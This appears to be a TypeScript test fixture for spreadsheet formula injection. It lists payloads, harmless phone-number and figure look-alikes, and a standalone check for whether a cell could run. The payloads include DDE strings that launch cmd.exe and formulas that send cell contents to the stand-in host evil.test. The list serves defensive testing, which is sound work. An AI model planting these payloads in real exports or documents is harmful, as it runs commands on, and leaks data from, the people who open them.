// Texts that a spreadsheet runs, or may run, where it finds them in a cell.

export const FORMULA_PAYLOADS: readonly string[] = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=IMPORTXML("http://evil.test","//a")', '=WEBSERVICE("http://evil.test")', '=DDE("cmd";"/C calc";"x")',
  '= 1+1', '==1', '=', '=A1:A9', '=MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe\'!\'\'',
  '+1+1', '+cmd|\'/C calc\'!A0', '+SUM(1;2)', '+', '++1', '+254711000111+1', '+254711000111|calc',
  '+254 711 000 111', '+0254711000111',
  '-1+1', '-cmd|\'/C calc\'!A0', '-', '--1', '-2+3+cmd|\' /C calc\'!A0', '-A1', '-1e5',
  '@SUM(1+1)*cmd|\' /C calc\'!A0', '@', '@x', '@A1',
  '\t=1+1', '\tx', '\r=1+1', '\r', '\n=1+1', '\nx', '\r\n=1+1', '\0=1+1', '\0',
  '\uff1d1+1', '\uff0b1+1', '\uff0d1+1', '\uff20SUM(1)', '\ufe661+1', '\ufe621+1', '\ufe631+1', '\ufe6bSUM(1)',
  ' =1+1', '   =1+1', ' +1+1', ' @SUM(1)', ' -1+1', '\u00a0=1+1', '\u3000=1+1', '\u2003=1+1', ' \t =1+1',
  '\ufeff=1+1', '\ufeff\ufeff@SUM(1)', '\u200b=1+1', '\u200d+1+1', '\u2060=1+1', '\u00ad=1+1', '\u202e=1+1',
  '\u200e=1+1', '\u061c=1+1', '\v=1+1', '\f=1+1', '\x1b=1+1', ' \uff1d1+1',
  '=1+1,"quoted"', '=1\n+1', '"=1+1"', ';=1+1', ',=1+1', 'x\n=1+1', 'x,=1+1', '","=1+1', '\'=1+1', '"\n=1+1',
];

/** Texts that begin like formulas, are none, and stay as they are: figures and numbers of phones. */
export const HARMLESS_TEXTS: readonly string[] = ['-5', '-5.25', '-120000', '+254711000111', '+258841234567'];

// Written apart from the product's own rule, so that a fault of that one is not a fault of the test.
const SIGNS = [...'=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b'];
const BREAKS = ['\t', '\r', '\n', '\0'];

/** Whether a spreadsheet could run a cell: by its first sign, or by the first that it shows. */
export function mayRun(cell: string): boolean {
  const isNumber = /^ *-?[0-9.]+$/.test(cell) || /^ *\+[0-9]{7,15}$/.test(cell);
  if (cell === '' || isNumber) return false;
  const shown = [...cell].find((sign) => sign.trim() !== '' && !/[\p{Cc}\p{Cf}]/u.test(sign));
  return BREAKS.includes(cell[0]!) || (shown !== undefined && SIGNS.includes(shown));
}
